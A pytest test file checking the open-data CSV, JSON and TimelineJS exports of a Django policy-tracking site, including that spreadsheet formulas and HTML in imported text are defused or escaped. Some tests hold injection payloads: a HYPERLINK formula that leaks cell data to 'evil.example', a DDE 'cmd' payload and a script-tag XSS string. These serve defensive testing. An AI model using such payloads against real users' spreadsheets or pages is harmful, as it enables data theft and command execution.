"""CSV, JSON and TimelineJS downloads of the timeline: same rows as the page, only published ones,
stable columns, the licence with every file, and a fixed number of queries per chunk of rows."""

import csv
import datetime
import io
import json
import re

import pytest
from django.urls import reverse

from directory.models import Jurisdiction, Organisation
from directory.tree import jurisdiction_paths
from opendata import export_views
from opendata.csv_rows import COLUMNS, CSV_COLUMNS
from opendata.exports import FORMULA_TRIGGERS, defuse_formula
from policies.models import EditorialState, PolicyAction
from tests.factories import (
    ArticleFactory,
    CitationFactory,
    JurisdictionFactory,
    OrganisationFactory,
    ParticipantFactory,
    PolicyActionFactory,
)

pytestmark = pytest.mark.django_db

MINNEAPOLIS_BAN = "minneapolis-bans-government-facial-recognition-2021"
AMAZON_MORATORIUM = "amazon-one-year-moratorium-rekognition-police-2020"


def streamed(response):
    assert response.streaming, "exports must stream"
    return b"".join(response.streaming_content).decode()


def page_slugs(client, query):
    html = client.get("/" + query).content.decode()
    return re.findall(r'class="action-title"[^>]*><a href="/actions/([^/]+)/"', html)


def csv_rows(client, query):
    response = client.get(reverse("opendata:export-csv") + query)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(streamed(response))))


def json_export(client, query, name="opendata:export-json"):
    response = client.get(reverse(name) + query)
    assert response.status_code == 200
    return json.loads(streamed(response))


def test_page_slugs_are_read_from_the_rendered_timeline(imported_seeds, client):
    slugs = page_slugs(client, "")
    assert len(slugs) == PolicyAction.objects.published().count() == 15
    assert MINNEAPOLIS_BAN in slugs


def test_the_csv_holds_stable_identifiers_dates_places_organisations_and_sources(
    imported_seeds, client
):
    rows = {row["slug"]: row for row in csv_rows(client, "?jurisdiction=minnesota")}
    assert list(rows) == [MINNEAPOLIS_BAN]
    row = rows[MINNEAPOLIS_BAN]
    assert row["url"] == f"http://testserver/actions/{MINNEAPOLIS_BAN}/"
    assert row["type"] == "ban"
    assert row["status"] == "in_force"
    assert (row["date"], row["date_precision"]) == ("2021-02-12", "day")
    assert row["jurisdiction"] == "minneapolis"
    assert row["jurisdiction_path"] == "united-states/minnesota/minneapolis"
    assert row["jurisdiction_ocd_id"] == "ocd-division/country:us/state:mn/place:minneapolis"
    assert row["organisations"] == "Minneapolis City Council (actor)"
    assert row["organisation_slugs"] == "minneapolis-city-council:actor"
    assert "https://www.gizchina.com/" in row["source_urls"]
    assert row["licence"] == "CC-BY-4.0"


def test_partial_dates_keep_their_precision_in_every_format(imported_seeds, client):
    rows = {row["slug"]: row for row in csv_rows(client, "?organisation=aclu")}
    aclu = rows["aclu-demands-longer-amazon-ban-2020"]
    assert (aclu["date"], aclu["date_precision"]) == ("2020-06", "month")
    events = json_export(client, "?organisation=aclu", "opendata:export-timelinejs")["events"]
    by_slug = {event["unique_id"]: event for event in events}
    assert by_slug["aclu-demands-longer-amazon-ban-2020"]["start_date"] == {
        "year": "2020",
        "month": "6",
    }
    assert by_slug["aclu-demands-longer-amazon-ban-2020"]["display_date"] == "June 2020"


def test_the_csv_header_is_the_documented_column_list(imported_seeds, client):
    response = client.get(reverse("opendata:export-csv"))
    assert streamed(response).splitlines()[0] == ",".join(CSV_COLUMNS)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="policy-tracker-actions-'
    )


def test_every_download_states_the_licence_and_how_to_cite(imported_seeds, client):
    for name in ("opendata:export-csv", "opendata:export-json", "opendata:export-timelinejs"):
        response = client.get(reverse(name))
        assert 'rel="license"' in response["Link"]
        assert "creativecommons.org/licenses/by/4.0/" in response["Link"]
        assert "/about/#licence" in response["Link"]
        assert response["Access-Control-Allow-Origin"] == "*"
    document = json_export(client, "?type=ban")
    assert document["licence"]["spdx"] == "CC-BY-4.0"
    assert document["licence"]["terms"] == "http://testserver/about/#licence"
    assert "Policy Tracker" in document["citation"]
    assert "http://testserver/export/actions.json?type=ban" in document["citation"]
    assert document["count"] == len(document["actions"]) == 4


def test_json_sources_carry_headlines_urls_and_quotes_but_never_article_text(
    imported_seeds, client
):
    action = PolicyAction.objects.get(slug=MINNEAPOLIS_BAN)
    article = action.citations.first().article
    article.body = "THE FULL TEXT OF SOMEONE ELSE'S REPORTING"
    article.save()
    text = streamed(client.get(reverse("opendata:export-json") + "?jurisdiction=minnesota"))
    assert "THE FULL TEXT" not in text
    record = json.loads(text)["actions"][0]
    source = record["sources"][0]
    assert set(source) == {"title", "url", "publisher", "published_at", "quote", "page"}
    assert source["url"].startswith("https://")
    assert record["jurisdiction"]["ocd_id"].startswith("ocd-division/")
    assert record["organisations"] == [
        {
            "slug": "minneapolis-city-council",
            "name": "Minneapolis City Council",
            "role": "actor",
            "url": "http://testserver/organisations/minneapolis-city-council/",
        }
    ]


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'


def test_csv_cells_that_start_like_a_formula_are_defused(client):
    place = JurisdictionFactory(name="@SUM(A1:A9)", slug="-place", iso_code="+1")
    action = PolicyActionFactory(
        title=FORMULA, slug="-1-action", summary="\t=1+1", jurisdiction=place
    )
    ParticipantFactory(action=action, organisation=OrganisationFactory(name="\r=cmd|' /C calc'!A0"))
    CitationFactory(action=action)
    [row] = csv_rows(client, "")
    assert row["title"] == "'" + FORMULA
    assert row["slug"] == "'-1-action"
    assert row["summary"] == "'\t=1+1"
    assert row["jurisdiction"] == "'-place"
    assert row["jurisdiction_name"] == "'@SUM(A1:A9)"
    assert row["jurisdiction_path"] == "'-place"
    assert row["jurisdiction_iso_code"] == "'+1"
    assert row["organisations"] == "'\r=cmd|' /C calc'!A0 (actor)"
    # Dates, codes and addresses cannot start a formula, and are left exactly as they are.
    assert (row["date"], row["type"], row["url"]) == (
        "2021-02-12",
        "ban",
        "http://testserver/actions/-1-action/",
    )
    assert row["published_at"][0].isdigit()


def test_the_column_table_decides_which_cells_are_defused(client):
    """Every typed text here starts like a formula: each column the table leaves verbatim
    still starts with no trigger (the record formats it), and every other one is defused."""
    place = JurisdictionFactory(
        name="=Place", slug="-place", iso_code="-1", ocd_id="ocd-division/country:zz"
    )
    action = PolicyActionFactory(
        title="=Title",
        slug="-action",
        summary="+Summary",
        jurisdiction=place,
        effective_date=datetime.date(2021, 3, 1),
        expiry_date=datetime.date(2022, 3, 1),
    )
    ParticipantFactory(action=action, organisation=OrganisationFactory(name="@Org", slug="-org"))
    CitationFactory(action=action, article=ArticleFactory(url="https://news.example/-story"))
    [row] = csv_rows(client, "")
    for column in COLUMNS:
        cell = row[column.name]
        if column.verbatim:
            assert cell and not cell.startswith(FORMULA_TRIGGERS), column.name
        else:
            assert cell.startswith("'"), column.name


def test_the_json_download_keeps_the_exact_text_the_csv_defuses(client):
    PolicyActionFactory(title=FORMULA, summary="-2 councils voted")
    [record] = json_export(client, "")["actions"]
    assert (record["title"], record["summary"]) == (FORMULA, "-2 councils voted")


def test_text_that_only_contains_a_formula_character_is_left_alone():
    assert defuse_formula("Ban on face recognition = safer streets") == (
        "Ban on face recognition = safer streets"
    )
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert defuse_formula(f"{trigger}1") == f"'{trigger}1"


def test_timelinejs_is_oldest_first_and_escapes_imported_text(client):
    PolicyActionFactory(title="<script>alert(1)</script>", summary="<b>bold</b>")
    PolicyActionFactory(title="Older", date="2019-01-01")
    document = json_export(client, "", "opendata:export-timelinejs")
    headlines = [event["text"]["headline"] for event in document["events"]]
    assert headlines == ["Older", "&lt;script&gt;alert(1)&lt;/script&gt;"]
    assert "<b>" not in json.dumps(document["events"])
    assert "CC BY 4.0" in document["title"]["text"]["text"]


def test_bad_filters_are_a_400_naming_the_problem(imported_seeds, client):
    response = client.get(reverse("opendata:export-csv") + "?jurisdiction=atlantis&since=soon")
    assert response.status_code == 400
    message = response.content.decode()
    assert "atlantis" in message
    assert "since" in message
    response = client.get(reverse("opendata:export-json") + "?type=picnic")
    assert response.status_code == 400
    assert "picnic" in response.json()["errors"]["type"][0]


def test_drafts_never_appear_in_any_download(imported_seeds, client):
    minneapolis = Jurisdiction.objects.get(slug="minneapolis")
    amazon = Organisation.objects.get(slug="amazon")
    for state in (EditorialState.DRAFT, EditorialState.REVIEW):
        hidden = PolicyActionFactory(
            title=f"Hidden {state} ban", slug=f"hidden-{state}-ban", state=state,
            jurisdiction=minneapolis, date=None if state == EditorialState.DRAFT else "2021-03-01",
        )  # fmt: skip
        ParticipantFactory(action=hidden, organisation=amazon)
        CitationFactory(action=hidden)
    for query in ("", "?jurisdiction=minnesota", "?organisation=amazon", "?type=ban", "?q=Hidden"):
        for name in ("opendata:export-csv", "opendata:export-json", "opendata:export-timelinejs"):
            text = streamed(client.get(reverse(name) + query))
            assert "Hidden draft ban" not in text
            assert "Hidden review ban" not in text
            assert "hidden-draft-ban" not in text
            assert "hidden-review-ban" not in text


def test_downloads_on_an_empty_database_are_empty_but_well_formed(client):
    assert csv_rows(client, "") == []
    assert json_export(client, "")["actions"] == []
    assert json_export(client, "", "opendata:export-timelinejs")["events"] == []


def test_jurisdiction_paths_walk_the_tree_once():
    rows = [(1, None, "us"), (2, 1, "mn"), (3, 2, "minneapolis"), (4, None, "fr")]
    assert jurisdiction_paths(rows) == {1: "us", 2: "us/mn", 3: "us/mn/minneapolis", 4: "fr"}


def test_pages_link_to_their_downloads_and_feeds(imported_seeds, client):
    timeline = client.get("/?type=ban&page=1").content.decode()
    assert 'href="/export/actions.csv?type=ban"' in timeline
    assert 'href="/export/actions.json?type=ban"' in timeline
    assert 'href="/export/timelinejs.json?type=ban"' in timeline
    assert (
        '<link rel="alternate" type="application/atom+xml" '
        'title="Newly published actions matching these filters" '
        'href="/feeds/actions.atom?type=ban">'
    ) in timeline
    state = client.get(reverse("policies:jurisdiction-detail", args=["minnesota"])).content
    assert b'href="/export/actions.csv?jurisdiction=minnesota"' in state
    assert b'href="/feeds/jurisdictions/minnesota.atom"' in state
    amazon = client.get(reverse("policies:organisation-detail", args=["amazon"])).content
    assert b'href="/export/actions.json?organisation=amazon"' in amazon
    assert b'href="/feeds/organisations/amazon.atom"' in amazon
    about = client.get(reverse("policies:about")).content.decode()
    assert 'id="open-data"' in about
    assert "/export/actions.csv" in about
    assert "/api/schema/" in about


def test_a_place_without_published_actions_offers_its_feed_but_no_empty_download(client):
    place = JurisdictionFactory(slug="quiet-town")
    page = client.get(place.get_absolute_url()).content.decode()
    assert "/export/actions.csv" not in page
    assert 'href="/feeds/jurisdictions/quiet-town.atom"' in page


@pytest.fixture
def many_actions():
    """Actions spread over five cities of a state, each with organisations and sources."""
    state = JurisdictionFactory(name="State", slug="state", kind="state")
    cities = [JurisdictionFactory(parent=state) for _ in range(5)]
    organisations = [OrganisationFactory(slug=f"org-{n}") for n in range(4)]
    article = ArticleFactory()

    def add(count):
        for n in range(count):
            action = PolicyActionFactory(jurisdiction=cities[n % 5])
            for organisation in organisations[: n % 4 + 1]:
                ParticipantFactory(action=action, organisation=organisation)
            CitationFactory(action=action, article=article)
            CitationFactory(action=action)

    add(30)
    return add


# The jurisdiction tree, then the actions; organisations and sources once per chunk.
EXPORT_QUERIES_PER_CHUNK = 2
EXPORT_QUERIES = 2 + EXPORT_QUERIES_PER_CHUNK
# the jurisdiction and organisation looked up, and the places inside the jurisdiction that
# hold actions (`within`)
FILTERED_EXPORT_QUERIES = EXPORT_QUERIES + 3


@pytest.mark.parametrize(
    "name, unread",
    [
        ("opendata:export-csv", 0),
        ("opendata:export-json", 0),
        ("opendata:export-timelinejs", 1),  # its events show no sources: none read
    ],
)
def test_download_query_counts_do_not_grow_with_rows(
    client, many_actions, django_assert_num_queries, name, unread
):
    for _ in range(2):
        with django_assert_num_queries(EXPORT_QUERIES - unread):
            streamed(client.get(reverse(name)))
        with django_assert_num_queries(FILTERED_EXPORT_QUERIES - unread):
            streamed(client.get(reverse(name) + "?jurisdiction=state&organisation=org-0"))
        many_actions(30)  # twice the rows, same queries


def test_downloads_read_in_chunks_with_a_fixed_number_of_queries_each(
    client, many_actions, django_assert_num_queries, monkeypatch
):
    monkeypatch.setattr(export_views, "EXPORT_CHUNK_SIZE", 10)
    many_actions(30)  # 60 actions: six chunks of ten
    with django_assert_num_queries(2 + 6 * EXPORT_QUERIES_PER_CHUNK):
        rows = streamed(client.get(reverse("opendata:export-csv"))).splitlines()
    assert len(rows) == 1 + 60
